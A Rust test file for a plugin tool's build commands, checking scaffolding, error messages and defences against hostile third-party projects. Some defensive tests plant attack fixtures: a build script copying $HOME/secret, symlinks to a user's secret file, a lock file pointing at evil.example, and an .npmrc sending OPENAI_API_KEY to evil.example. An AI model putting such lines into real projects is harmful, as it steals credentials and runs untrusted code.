//! `plugin new`, `plugin build` and `plugin watch`: projects of plugins. Builds with the real tools
//! of each language are in `languages/sources.rs`; here cargo is a script that hands over a
//! component.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};
use syrch_kit::languages;
use tempfile::TempDir;

use crate::compare::assert_snapshot;
use crate::endpoint::Said;
use crate::{host, shop};

const LANGUAGES: [&str; 6] = ["rust", "python", "js", "ts", "go", "c"];
const ROLES: [&str; 8] =
    ["linker", "planner", "solver", "calibrator", "reward", "clarifier", "aggregator", "rewriter"];

/// A folder in which projects are made.
struct Place(TempDir);

impl Place {
    fn new() -> Self {
        Self(syrch_kit::scratch())
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn plugin(&self, words: &[&str]) -> Command {
        let mut command = host();
        command
            .current_dir(self.path())
            .env("SYRCH_STATE_DIR", self.path().join("state"))
            .arg("plugin")
            .args(words);
        if matches!(words, ["build" | "watch", ..]) {
            command.arg("--yes");
        }
        command
    }

    fn run(&self, words: &[&str]) -> Said {
        Said::from_output(self.plugin(words).output().unwrap())
    }

    /// The command ends with this code, and its error has these words.
    fn assert_refused(&self, words: &[&str], code: i32, parts: &[&str]) {
        let said = self.run(words);
        assert_eq!(said.code, code, "{words:?}: {}", said.all());
        for part in parts {
            assert!(said.stderr.contains(part), "{words:?}: `{part}` is not in {}", said.all());
        }
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

/// The files of a project, without the SDK and the contract.
fn own(document: &Value) -> Vec<&str> {
    let files = document["files"].as_array().unwrap().iter().map(|file| file.as_str().unwrap());
    files.filter(|file| !file.starts_with("sdk/") && !file.starts_with("wit/")).collect()
}

#[test]
fn every_language_and_role_has_its_files() {
    let place = Place::new();
    let mut list = String::new();
    for language in LANGUAGES {
        for role in ROLES {
            let name = format!("{language}-{role}");
            let said =
                place.run(&["new", &name, "--role", role, "--lang", language, "--format", "json"]);
            let document = said.document(0);
            assert_eq!(
                (&document["schema"], &document["roles"]),
                (&json!("syrch.project/1"), &json!([role]))
            );
            for file in document["files"].as_array().unwrap() {
                let written = place.path().join(&name).join(file.as_str().unwrap());
                assert!(written.is_file(), "{}", written.display());
            }
            writeln!(list, "{language} {role}: {}", own(&document).join(" ")).unwrap();
        }
    }
    assert_snapshot("projects.txt", &list);
}

#[test]
fn a_project_has_the_contract_and_several_roles() {
    let place = Place::new();
    let said = place.run(&[
        "new", "both", "--role", "reward", "--role", "solver", "--lang", "python", "--into", "a/b",
    ]);
    assert_eq!(said.code, 0, "{}", said.all());
    assert!(said.stdout.contains("a solver, reward in python"), "{}", said.stdout);
    assert!(said.stdout.contains("syrch-host plugin build a/b\n"), "{}", said.stdout);
    assert!(
        said.stdout.contains("--solver a/b/build/both.wasm --reward a/b/build/both.wasm"),
        "{}",
        said.stdout
    );
    let folder = place.path().join("a/b");
    let read = |path: &str| fs::read_to_string(folder.join(path)).unwrap();
    assert_eq!(
        read("plugin.yml"),
        "name: both\nlanguage: python\nroles: [solver, reward]\nentry: plugin.py\n"
    );
    assert!(folder.join("tests/solver.yml").is_file() && !folder.join("tests/linker.yml").exists());
    let wit = syrch_kit::repository().join("wit/types.wit");
    assert_eq!(read("wit/types.wit"), fs::read_to_string(wit).unwrap());
}

#[test]
fn wrong_projects_are_not_written() {
    let place = Place::new();
    let new = |name, role, language| ["new", name, "--role", role, "--lang", language];
    place.assert_refused(
        &new("My_Plugin", "reward", "rust"),
        2,
        &["`My_Plugin` is no name", "lower-case", "hint"],
    );
    place.assert_refused(&new("match", "reward", "rust"), 2, &["Rust uses it"]);
    let long = "a".repeat(65);
    place.assert_refused(&new(&long, "reward", "c"), 2, &["longer than 64"]);
    place.assert_refused(&new("mine", "rewrd", "c"), 2, &["rewrd", "reward"]);
    place.assert_refused(&new("mine", "reward", "pyton"), 2, &["pyton", "python"]);
    place.assert_refused(&["new", "mine", "--lang", "c"], 2, &["--role"]);
    assert!(!place.path().join("mine").exists());
    place.write("mine/kept.txt", "kept");
    place.assert_refused(
        &new("mine", "reward", "c"),
        2,
        &["`mine` exists and is not empty", "--into"],
    );
    assert_eq!(fs::read_dir(place.path().join("mine")).unwrap().count(), 1);
}

#[test]
fn wrong_definitions_are_reported_with_their_places() {
    let place = Place::new();
    place.assert_refused(
        &["build", "nowhere"],
        10,
        &["nowhere/plugin.yml", "as `syrch-host plugin new` makes it"],
    );
    place.write("p/plugin.yml", "name: p\nlang: c\nlanguage: c\nroles: [reward, rewarder]\n");
    place.assert_refused(
        &["build", "p"],
        10,
        &[
            "p/plugin.yml:2:1: unknown key `lang`: did you mean `language`?",
            "p/plugin.yml:4:8: unknown role `rewarder`",
        ],
    );
    place.write("q/plugin.yml", "name: q\nlanguage: c\nroles: [reward]\nentry: ../other.c\n");
    place.assert_refused(&["build", "q"], 10, &["q/plugin.yml:4:8: must be a path below"]);
    place.write("r/plugin.yml", "name: r\nlanguage: c\nroles: [reward]\n");
    place.assert_refused(&["build", "r"], 10, &["r/plugin.c", "there is no such file"]);
    place.assert_refused(&["watch", "r", "-q", "How many?"], 2, &["no database"]);
    place.assert_refused(&["watch", "r"], 2, &["no question"]);
    place.assert_refused(&["watch", "r", "-q", "a", "--dry-run"], 2, &["--dry-run"]);
}

#[test]
fn a_missing_tool_is_reported_with_how_it_is_installed() {
    let place = Place::new();
    fs::create_dir(place.path().join("no-tools")).unwrap();
    for (language, parts) in [
        ("rust", ["rustc is missing", "https://rustup.rs"]),
        ("python", ["Python 3.10 or newer is missing", "apt install"]),
        ("js", ["npm is missing", "https://nodejs.org"]),
        ("go", ["Go 1.27 is missing", "or Python 3.10 with pip"]),
        ("c", ["clang with wasi-libc is missing", "or Python 3.10 with pip"]),
    ] {
        place.run(&[
            "new",
            language,
            "--role",
            "calibrator",
            "--lang",
            language,
            "--into",
            language,
        ]);
        let built = Said::from_output(
            place
                .plugin(&["build", language])
                .env("PATH", place.path().join("no-tools"))
                .output()
                .unwrap(),
        );
        assert_eq!(built.code, 10, "{language}: {}", built.all());
        assert!(
            parts.iter().all(|part| built.stderr.contains(part)),
            "{language}: {}",
            built.all()
        );
    }
}

/// The arguments with which a search is answered by a plugin whose confidences are the setting
/// `share` and whose statement reads no table; the path of a database follows.
#[cfg(unix)]
const ASKED: [&str; 11] = [
    "--llm",
    "offline",
    "-P",
    "solver.share=1",
    "-P",
    "calibrator.share=1",
    "-P",
    "reward.share=1",
    "-q",
    "What is 1?",
    "--db",
];

/// A project in Rust whose cargo is a script: it does what `cargo.sh` says.
#[cfg(unix)]
struct Scripted {
    place: Place,
    path: std::ffi::OsString,
}

#[cfg(unix)]
impl Scripted {
    fn new(roles: &str) -> Self {
        let place = Place::new();
        place.write("p/plugin.yml", &format!("name: p\nlanguage: rust\nroles: [{roles}]\n"));
        place.write("p/Cargo.toml", "");
        place.write("tools/rustc", "#!/bin/sh\necho /\n");
        place.write("tools/cargo", "#!/bin/sh\n. ./cargo.sh\n");
        for tool in ["rustc", "cargo"] {
            let tool = place.path().join("tools").join(tool);
            fs::set_permissions(tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        }
        let mut path = place.path().join("tools").into_os_string();
        path.push(":/usr/bin:/bin");
        Self { place, path }
    }

    /// Cargo reports that it made this component of the project.
    fn makes(&self, component: &[u8]) {
        let folder = self.place.path().join("p").canonicalize().unwrap();
        fs::create_dir_all(folder.join("target")).unwrap();
        fs::write(folder.join("target/p.wasm"), component).unwrap();
        let message = json!({
            "reason": "compiler-artifact",
            "manifest_path": folder.join("Cargo.toml"),
            "filenames": [folder.join("target/p.wasm")],
        });
        self.place
            .write("p/cargo.sh", &format!("echo compiling >&2\ncat <<'END'\n{message}\nEND\n"));
    }

    fn run(&self, words: &[&str]) -> Said {
        Said::from_output(self.place.plugin(words).env("PATH", &self.path).output().unwrap())
    }

    fn component(&self) -> PathBuf {
        self.place.path().join("p/build/p.wasm")
    }
}

#[cfg(unix)]
#[test]
fn a_component_is_checked_and_moved_to_its_place() {
    let scripted = Scripted::new(&ROLES.join(", "));
    let component = languages::component("c");
    scripted.makes(&component);
    let built = scripted.run(&["build", "p"]);
    assert_eq!(built.code, 0, "{}", built.all());
    assert!(built.stdout.starts_with("p/build/p.wasm: "), "{}", built.stdout);
    assert!(
        !built.stderr.contains("compiling\n"),
        "what a tool prints is shown only if it fails: {}",
        built.stderr
    );
    assert_eq!(fs::read(scripted.component()).unwrap(), component);
    let document = scripted.run(&["build", "p", "--format", "json"]).document(0);
    assert_eq!((&document["schema"], &document["roles"]), (&json!("syrch.build/1"), &json!(ROLES)));
    let world = fs::read_to_string(scripted.place.path().join("p/build/wit/world.wit")).unwrap();
    assert!(world.contains("include syrch:plugin/solver-plugin@0.1.0;"), "{world}");
    assert!(scripted.run(&["build", "p", "-v"]).stderr.contains("compiling\n"));

    // Neither a component that is refused nor a failure replaces the one that is there.
    scripted.makes(b"\0asm no component");
    let refused = scripted.run(&["build", "p"]);
    assert_eq!(refused.code, 13, "{}", refused.all());
    scripted.place.write("p/cargo.sh", "echo 'error: expected `;`' >&2\nexit 101\n");
    let failed = scripted.run(&["build", "p"]);
    assert_eq!(failed.code, 13, "{}", failed.all());
    for part in [
        "cargo build --release --target wasm32-wasip2 failed (exit code 101)",
        "error: expected `;`",
        "--verbose",
    ] {
        assert!(failed.stderr.contains(part), "{}", failed.all());
    }
    assert_eq!(fs::read(scripted.component()).unwrap(), component);
    let files = fs::read_dir(scripted.place.path().join("p/build")).unwrap();
    let mut names: Vec<String> =
        files.map(|file| file.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    assert_eq!(names, [".lock", "p.wasm", "wit"]);
}

#[cfg(unix)]
#[test]
fn the_roles_of_the_component_are_those_of_the_project() {
    let scripted = Scripted::new("solver");
    scripted.makes(&languages::component("c"));
    let refused = scripted.run(&["build", "p"]);
    assert_eq!(refused.code, 13, "{}", refused.all());
    assert!(
        refused.stderr.contains("aggregator, rewriter, and plugin.yml says solver"),
        "{}",
        refused.all()
    );
    assert!(!scripted.component().exists());
    scripted.place.write("p/cargo.sh", "exit 0\n");
    assert!(scripted.run(&["build", "p"]).stderr.contains("crate-type"));
}

#[cfg(unix)]
#[test]
fn a_watched_project_answers_and_is_compared_with_its_last_answer() {
    let scripted = Scripted::new(&ROLES.join(", "));
    let database = shop(scripted.place.path());
    let watch = || {
        scripted
            .run(&[&["watch", "p", "--once"], &ASKED[..], &[database.to_str().unwrap()]].concat())
    };
    scripted.makes(&languages::component("c"));
    let first = watch();
    assert_eq!(first.code, 0, "{}", first.all());
    assert!(
        first.stdout.contains("SELECT 1") && !first.stdout.contains("plugin solver:"),
        "{}",
        first.all()
    );
    scripted.makes(&languages::component("rust"));
    let second = watch();
    assert_eq!(second.code, 0, "{}", second.all());
    assert!(
        second.stdout.contains("plugin solver:") && second.stdout.contains("conformance 1.0.0 ("),
        "{}",
        second.all()
    );
    assert!(second.stdout.contains("answers with equal rows"), "{}", second.all());
    // A build that fails ends it, without a new answer.
    scripted.place.write("p/cargo.sh", "exit 1\n");
    assert_eq!(watch().code, 13);
}

#[cfg(unix)]
#[test]
fn a_watch_builds_again_after_a_change_and_ends_by_an_interrupt() {
    use std::io::{BufRead, BufReader};
    use std::process::Stdio;

    let scripted = Scripted::new(&ROLES.join(", "));
    let database = shop(scripted.place.path());
    scripted.place.write("p/cargo.sh", "echo 'error: not yet' >&2\nexit 1\n");
    let mut command = scripted.place.plugin(&["watch", "p"]);
    command
        .args(ASKED)
        .arg(database)
        .env("PATH", &scripted.path)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let mut until = |part: &str| {
        let seen: Vec<String> =
            lines.by_ref().map(Result::unwrap).take_while(|line| !line.contains(part)).collect();
        seen.join("\n")
    };
    let failed = until("waiting for a change");
    assert!(failed.contains("error: not yet"), "{failed}");
    scripted.makes(&languages::component("c"));
    let built = until("waiting for a change");
    assert!(built.contains("p/build/p.wasm: "), "{built}");
    let id = nix::unistd::Pid::from_raw(child.id().try_into().unwrap());
    nix::sys::signal::kill(id, nix::sys::signal::Signal::SIGINT).unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&output.stdout).contains("SELECT 1"));
}

/// A signal to the host alone, as a supervisor sends it: in a terminal Ctrl-C would reach the
/// tools, too.
#[cfg(unix)]
#[test]
fn an_interrupted_build_leaves_no_tool_behind() {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;
    use std::time::{Duration, Instant};

    let scripted = Scripted::new("solver");
    let database = shop(scripted.place.path());
    let id = |file: &str| {
        let text = fs::read_to_string(scripted.place.path().join("p/target").join(file)).ok()?;
        text.trim().parse().ok().map(Pid::from_raw)
    };
    let until = |what: &str, done: &dyn Fn() -> bool| {
        let start = Instant::now();
        while !done() {
            assert!(start.elapsed() < Duration::from_secs(20), "{what}");
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    // An orphan that has ended waits for whoever adopts it.
    let is_gone = |process: Pid| {
        let status = fs::read_to_string(format!("/proc/{process}/stat")).unwrap_or_default();
        kill(process, None).is_err()
            || status.rsplit(") ").next().is_some_and(|rest| rest.starts_with('Z'))
    };
    let ask = [&ASKED[..], &[database.to_str().unwrap()]].concat();
    for (words, signal) in [
        (vec!["build", "p"], Signal::SIGINT),
        (vec!["build", "p"], Signal::SIGTERM),
        (vec!["build", "p"], Signal::SIGHUP),
        ([&["watch", "p"], &ask[..]].concat(), Signal::SIGINT),
        ([&["watch", "p"], &ask[..]].concat(), Signal::SIGTERM),
    ] {
        drop(fs::remove_file(scripted.place.path().join("p/target/child")));
        scripted.place.write(
            "p/cargo.sh",
            "sleep 300 &\ncd target\necho $$ > tool\n\
             echo $! > child.new\nmv child.new child\nwait\n",
        );
        // As with `nohup`, what ignores that its terminal is closed goes on, so that the tests may
        // be run by it.
        let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
        let ignored = status.lines().find_map(|line| line.strip_prefix("SigIgn:"));
        if signal == Signal::SIGHUP
            && ignored
                .is_some_and(|mask| mask.trim().ends_with(['1', '3', '5', '7', '9', 'b', 'd', 'f']))
        {
            continue;
        }
        let mut host = scripted.place.plugin(&words);
        let mut host =
            host.env("PATH", &scripted.path).stderr(std::process::Stdio::null()).spawn().unwrap();
        until("the tool starts", &|| id("child").is_some());
        let tool = id("tool").unwrap();
        let child = id("child").unwrap();
        kill(Pid::from_raw(host.id().try_into().unwrap()), signal).unwrap();
        let ended = host.wait().unwrap();
        assert_eq!(ended.code(), Some(130), "{words:?} {signal}");
        until("the tool ends", &|| is_gone(tool) && is_gone(child));
    }
}

/// Settings of the user that change what the tools do, beside those without which they find
/// nothing.
#[cfg(unix)]
#[test]
fn tools_run_in_a_clean_environment() {
    let scripted = Scripted::new(&ROLES.join(", "));
    scripted.makes(&languages::component("c"));
    let script = fs::read_to_string(scripted.place.path().join("p/cargo.sh")).unwrap();
    scripted.place.write("p/cargo.sh", &format!("env > target/seen\n{script}"));
    let mut command = scripted.place.plugin(&["build", "p"]);
    command
        .env("PATH", &scripted.path)
        .env("https_proxy", "http://127.0.0.1:9")
        .env("CARGO_REGISTRIES_MINE_INDEX", "i")
        .env("CARGO_REGISTRIES_MINE_TOKEN", "t");
    for name in [
        "RUSTFLAGS",
        "CARGO_ENCODED_RUSTFLAGS",
        "CARGO_BUILD_TARGET",
        "NODE_ENV",
        "PIP_USER",
        "GOFLAGS",
    ] {
        command.env(name, "production");
    }
    let built = Said::from_output(command.output().unwrap());
    assert_eq!(built.code, 0, "{}", built.all());
    let seen = fs::read_to_string(scripted.place.path().join("p/target/seen")).unwrap();
    assert!(!seen.contains("=production"), "{seen}");
    assert!(
        seen.contains("https_proxy=") && seen.contains("CARGO_REGISTRIES_MINE_INDEX=i"),
        "{seen}"
    );
    assert!(!seen.contains("TOKEN"), "credentials are for one's own projects: {seen}");
}

/// An npm that ends well without the tools, as one that leaves out the packages for development.
#[cfg(unix)]
#[test]
fn packages_count_as_installed_when_the_tools_are_there() {
    let scripted = Scripted::new("calibrator");
    let place = &scripted.place;
    place.run(&["new", "j", "--role", "calibrator", "--lang", "js", "--into", "j"]);
    let install = |script: &str| {
        place.write(
            "tools/npm",
            &format!("#!/bin/sh\necho \"$*\" > arguments\nmkdir -p node_modules/.bin\n{script}\n"),
        );
        let npm = place.path().join("tools/npm");
        fs::set_permissions(npm, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        scripted.run(&["build", "j"])
    };
    let stamp = place.path().join("j/node_modules/.installed");
    let missing = install("");
    assert_eq!(missing.code, 10, "{}", missing.all());
    for part in [
        "npm install",
        "esbuild is missing",
        "j/node_modules/.bin/esbuild",
        "package.json must name esbuild",
    ] {
        assert!(missing.stderr.contains(part), "`{part}` is not in {}", missing.all());
    }
    let arguments = fs::read_to_string(place.path().join("j/arguments")).unwrap();
    assert!(arguments.contains("--include=dev"), "{arguments}");
    assert!(!stamp.exists());
    // A stamp of an earlier version, which had checked nothing.
    fs::write(&stamp, "whatever").unwrap();
    let tool = "printf '#!/bin/sh\\nexit 0\\n' > node_modules/.bin/$tool && chmod +x \
                node_modules/.bin/$tool";
    let broken = install(&format!("tool=esbuild; {tool}"));
    assert!(
        broken.stderr.contains("componentize-qjs is missing") && broken.code == 10,
        "{}",
        broken.all()
    );
    let whole = install(&format!("for tool in esbuild componentize-qjs; do {tool}; done"));
    assert!(!whole.stderr.contains("is missing or") && stamp.exists(), "{}", whole.all());
    // Tools that are gone are installed again.
    fs::remove_file(place.path().join("j/node_modules/.bin/esbuild")).unwrap();
    let again = install(&format!("for tool in esbuild componentize-qjs; do {tool}; done"));
    assert!(again.stderr.contains("npm install in"), "{}", again.all());
}

/// A project that somebody else wrote says what it runs, and runs nothing until the user agrees.
#[cfg(unix)]
#[test]
fn a_build_of_somebody_elses_project_asks_first() {
    let scripted = Scripted::new("solver");
    scripted.makes(&languages::component("c"));
    let script = fs::read_to_string(scripted.place.path().join("p/cargo.sh")).unwrap();
    // What it reads and writes outside of the project is not there, where Linux bounds it.
    let hostile = "touch target/ran\ncat \"$HOME/secret\" > target/stolen 2> /dev/null\n\
                   (touch \"$HOME/left\" other.rs) 2> /dev/null\n";
    scripted.place.write("p/cargo.sh", &format!("{hostile}{script}"));
    scripted.place.write("own/secret", "secret");
    scripted.place.write("p/build.rs", "fn main() {}");
    scripted.place.write("p/Cargo.lock", "[[package]]\nname = \"ev\\u001b[2Jil\"\n");
    let ran = scripted.place.path().join("p/target/ran");
    let build = |words: &[&str]| {
        let mut command = host();
        command
            .current_dir(scripted.place.path())
            .env("SYRCH_STATE_DIR", scripted.place.path().join("state"))
            .env("PATH", &scripted.path)
            .env("HOME", scripted.place.path().join("own"))
            .args(["plugin", "build"])
            .args(words);
        Said::from_output(command.output().unwrap())
    };
    let refused = build(&["p"]);
    assert_eq!(refused.code, 15, "{}", refused.all());
    for part in ["(build.rs)", "1 package of Cargo.lock", "needs your consent", "--yes"] {
        assert!(refused.stderr.contains(part), "`{part}` is not in {}", refused.all());
    }
    assert!(!refused.stderr.contains('\u{1b}'), "{:?}", refused.stderr);
    let without = build(&["p", "--yes", "--no-scripts"]);
    assert_eq!(without.code, 2, "{}", without.all());
    assert!(without.stderr.contains("cargo has no way") && !ran.exists(), "{}", without.all());
    // `solver` alone is not what the component has, so the build fails after its tools.
    let agreed = build(&["p", "--yes"]);
    assert!(agreed.stderr.contains("(build.rs)") && ran.exists(), "{}", agreed.all());
    if syrch::plugins::WorkerProcess::is_supported() {
        let stolen = fs::read_to_string(scripted.place.path().join("p/target/stolen")).unwrap();
        let left = ["own/left", "p/other.rs"].map(|name| scripted.place.path().join(name));
        assert!(stolen.is_empty() && left.iter().all(|path| !path.exists()), "{stolen} {left:?}");
    }
    assert_eq!(build(&["p"]).code, 15, "what failed is not remembered");
    let whole = format!("name: p\nlanguage: rust\nroles: [{}]\n", ROLES.join(", "));
    scripted.place.write("p/plugin.yml", &whole);
    assert_eq!(build(&["p", "--yes"]).code, 0);
    let again = build(&["p"]);
    assert!(again.code == 0 && !again.stderr.contains("runs these"), "{}", again.all());
    scripted.place.write("p/build.rs", "fn main() { other() }");
    assert_eq!(build(&["p"]).code, 15, "another build script needs another consent");
    // What `plugin new` wrote here is the user's own: cargo runs, and the script of it is missing.
    scripted.run(&["new", "mine", "--role", "reward", "--lang", "rust"]);
    let own = build(&["mine"]);
    assert!(own.code == 13 && !own.stderr.contains("runs these"), "{}", own.all());
    fs::rename(scripted.place.path().join("mine"), scripted.place.path().join("theirs")).unwrap();
    assert_eq!(build(&["theirs"]).code, 15, "another folder");
}

/// A step of somebody else's build leaves a link in the place of the component, or names another
/// file as what was made: nothing of it gets into the project.
#[cfg(unix)]
#[test]
fn a_build_takes_nothing_but_its_component() {
    let scripted = Scripted::new("solver");
    let place = &scripted.place;
    place.write("own/secret.txt", "the secret of the user");
    place.write("p/build.rs", "fn main() {}");
    let target = place.path().join("p").canonicalize().unwrap().join("target");
    let secret = place.path().canonicalize().unwrap().join("own/secret.txt");
    let replace = format!("rm target/p.wasm\nln -s '{}' target/p.wasm\n", secret.display());
    let link = format!("ln -s '{}' target/folder\n", secret.parent().unwrap().display());
    let text = "echo text > target/p.wasm\n".to_owned();
    let pipe = "rm target/p.wasm\nmkfifo target/p.wasm\n".to_owned();
    for (script, made, why) in [
        (replace, target.join("p.wasm"), "outside of"),
        (link, target.join("folder/secret.wasm"), "outside of"),
        (String::new(), place.path().join("own/secret.wasm"), "outside of"),
        (text, target.join("p.wasm"), "no module or component"),
        (pipe, target.join("p.wasm"), "no module or component"),
    ] {
        drop(fs::remove_dir_all(&target));
        scripted.makes(&languages::component("c"));
        fs::copy(target.join("p.wasm"), place.path().join("own/secret.wasm")).unwrap();
        let message = json!({
            "reason": "compiler-artifact",
            "manifest_path": target.with_file_name("Cargo.toml"),
            "filenames": [made],
        });
        place.write("p/cargo.sh", &format!("{script}cat <<'END'\n{message}\nEND\n"));
        let mut command = place.plugin(&["build", "p"]);
        command.env("PATH", &scripted.path).env("HOME", place.path().join("own"));
        let refused = Said::from_output(command.output().unwrap());
        assert_eq!(refused.code, 10, "{script}: {}", refused.all());
        assert!(refused.stderr.contains(why), "{script}: {}", refused.all());
        let left = fs::read_dir(place.path().join("p/build")).unwrap();
        let left: Vec<_> = left.map(|entry| entry.unwrap().path()).collect();
        assert!(left.iter().all(|path| path.extension().is_none_or(|end| end != "wasm")));
        assert!(!refused.all().contains("the secret"), "{}", refused.all());
    }
}

/// Python's own rule: without `-I` a module of the current folder comes before the installed one.
#[cfg(unix)]
const PYTHON: &str = r#"#!/bin/sh
isolated=
if test "$1" = -I; then isolated=yes; shift; fi
if test "$1" = -c; then echo 3 12; exit; fi
module=$2
if test -z "$isolated"; then
    for file in "$module.py" "$module/__init__.py" sitecustomize.py; do
        if test -e "$file"; then . "./$file"; fi
    done
fi
if test "$module" = venv; then mkdir -p "$4/bin"; cp "$0" "$4/bin/python"; touch "$4/pyvenv.cfg"; fi
if test "$module $3" = "ziglang cc"; then
    for file in "$@"; do :; done
    case "$*" in *" -MD "*)
        # Code may include a file under these flags alone.
        case "$*" in *" -fno-gnu-inline-asm "*)
            more=$(sed -n 's/^#include "\(\/.*\)"/\1/p' "$file")
        esac
        while test "$1" != -MF; do shift; done
        echo "x.o: $file $more" > "$2"
        touch "$4"
        exit
    esac
    echo "the compiler ran" >&2
    exit 1
fi
"#;

/// Files of a project or of the current folder are none of Python's modules, and the folders of
/// `PATH` are none of the project's.
#[cfg(unix)]
#[test]
fn a_build_runs_no_file_of_a_project_as_a_tool() {
    let place = Place::new();
    place.run(&["new", "c", "--role", "reward", "--lang", "c"]);
    let planted = format!("touch {}/ran\n", place.path().display());
    for folder in ["", "c/", "c/build/"] {
        for file in ["venv.py", "pip.py", "ziglang.py", "sitecustomize.py", "ziglang/__init__.py"] {
            place.write(&format!("{folder}{file}"), &planted);
        }
    }
    for (path, text) in [("tools/python3", PYTHON), ("c/clang", &format!("#!/bin/sh\n{planted}"))] {
        place.write(path, text);
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        fs::set_permissions(place.path().join(path), mode).unwrap();
    }
    let path = format!(".:{}::/usr/bin:/bin", place.path().join("tools").display());
    let code = fs::read_to_string(place.path().join("c/plugin.c")).unwrap();
    for folder in [place.path().to_owned(), place.path().join("c")] {
        let project = place.path().join("c");
        let mut command = place.plugin(&["build", "--no-scripts"]);
        command.arg(project).env("PATH", &path).current_dir(folder);
        let built = Said::from_output(command.output().unwrap());
        assert!(built.stderr.contains("the compiler ran"), "{}", built.all());
        assert!(!place.path().join("ran").exists(), "{}", built.all());
    }
    // Nor does a file of the user become a part of somebody else's component.
    let secret = place.path().join("venv.py").display().to_string();
    fs::rename(place.path().join("c"), place.path().join("theirs")).unwrap();
    place.write("theirs/plugin.c", &format!("#include \"{secret}\"\n{code}"));
    let mut command = place.plugin(&["build", "theirs"]);
    let refused = Said::from_output(command.env("PATH", &path).output().unwrap());
    assert_eq!(refused.code, 10, "{}", refused.all());
    for part in [&secret, "lies outside of the project"] {
        assert!(refused.stderr.contains(part), "{}", refused.all());
    }
    assert!(!refused.stderr.contains("the compiler ran"), "{}", refused.all());
    assert!(!place.path().join("theirs/build/objects").exists(), "nor does it stay there");
}

/// The settings and the lock of npm that somebody else's project brings: they are shown, they get
/// no credential that they do not name, and `--no-scripts` refuses them.
#[cfg(unix)]
#[test]
fn npm_takes_no_settings_of_somebody_else_unseen() {
    let scripted = Scripted::new("calibrator");
    let place = &scripted.place;
    place.run(&["new", "mine", "--role", "calibrator", "--lang", "js"]);
    fs::rename(place.path().join("mine"), place.path().join("theirs")).unwrap();
    // The user's own settings name a mirror.
    let npm = "#!/bin/sh\nif [ \"$1\" = config ]; then\n\
               echo '{\"registry\": \"https://mirror.example/npm\"}'; exit\nfi\n\
               { env; echo \"$@\"; } > seen\nexit 1\n";
    place.write("tools/npm", npm);
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
    fs::set_permissions(place.path().join("tools/npm"), mode).unwrap();
    let build = |words: &[&str]| {
        let mut command = host();
        command
            .current_dir(place.path())
            .env("SYRCH_STATE_DIR", place.path().join("state"))
            .env("PATH", &scripted.path)
            .env("OPENAI_API_KEY", "canary")
            .env("GITHUB_TOKEN", "canary")
            .args(["plugin", "build", "theirs"])
            .args(words);
        Said::from_output(command.output().unwrap())
    };
    let seen = place.path().join("theirs/seen");
    // What npm locks of a mirror is not foreign, and a setting of the project does not lead past
    // it.
    let mirrored = r#"{"packages": {"node_modules/esbuild": {"version": "0.28.2", "integrity": "x",
        "resolved": "https://mirror.example/npm/esbuild/-/esbuild-0.28.2.tgz"}}}"#;
    place.write("theirs/package-lock.json", mirrored);
    place.write("theirs/.npmrc", "registry=https://registry.npmjs.org/\n");
    let plain = build(&["--yes", "--no-scripts"]);
    assert!(plain.stderr.contains("npm install failed"), "{}", plain.all());
    let given = fs::read_to_string(&seen).unwrap();
    assert!(!given.contains("canary"), "{given}");
    assert!(given.contains("--registry=https://mirror.example/npm"), "{given}");
    fs::remove_file(&seen).unwrap();
    fs::remove_file(place.path().join("theirs/package-lock.json")).unwrap();
    fs::remove_file(place.path().join("theirs/.npmrc")).unwrap();

    let lock = r#"{"packages": {"node_modules/esbuild":
        {"version": "0.28.2", "resolved": "http://evil.example/esbuild.tgz"}}}"#;
    let settings = "registry=http://evil.example/\n//evil.example/:_authToken=${OPENAI_API_KEY}\n";
    for (file, text, parts) in [
        ("package-lock.json", lock, vec!["esbuild http://evil.example/esbuild.tgz"]),
        (
            ".npmrc",
            settings,
            vec!["registry=http://evil.example/", "`OPENAI_API_KEY` is sent", "//evil.example/:"],
        ),
        (".tool-versions", "nodejs path:./evil\n", vec!["/.tool-versions`"]),
    ] {
        place.write(&format!("theirs/{file}"), text);
        let refused = build(&["--yes", "--no-scripts"]);
        assert_eq!(refused.code, 10, "{}", refused.all());
        assert!(refused.stderr.contains(file) && !seen.exists(), "{}", refused.all());
        let asked = build(&[]);
        assert_eq!(asked.code, 15, "{}", asked.all());
        for part in parts {
            assert!(asked.stderr.contains(part), "`{part}` is not in {}", asked.all());
        }
        assert!(!seen.exists());
        if file == ".npmrc" {
            build(&["--yes"]);
            let given = fs::read_to_string(&seen).unwrap();
            assert!(given.contains("OPENAI_API_KEY=canary") && !given.contains("GITHUB_TOKEN"));
            fs::remove_file(&seen).unwrap();
        }
        fs::remove_file(place.path().join("theirs").join(file)).unwrap();
    }
}

/// Links that a clone holds: nothing is written where they lead, and the folder that a link names
/// is not emptied.
#[cfg(unix)]
#[test]
fn a_build_follows_no_link_out_of_the_project() {
    let place = Place::new();
    place.write("home/kept.txt", "kept");
    for language in ["python", "js", "go", "c"] {
        place.run(&["new", language, "--role", "calibrator", "--lang", language]);
        for (link, target) in
            [(".tools", "../home"), ("node_modules", "../home"), ("build", "../home")]
        {
            let link = place.path().join(language).join(link);
            std::os::unix::fs::symlink(target, &link).unwrap();
            place.assert_refused(
                &["build", language],
                10,
                &["is a symbolic link", link.file_name().unwrap().to_str().unwrap()],
            );
            fs::remove_file(link).unwrap();
        }
    }
    place.assert_refused(
        &["build", "python", "--tools", "home"],
        10,
        &["home", "no virtual environment"],
    );
    assert_eq!(fs::read_to_string(place.path().join("home/kept.txt")).unwrap(), "kept");
    assert_eq!(fs::read_dir(place.path().join("home")).unwrap().count(), 1);
}
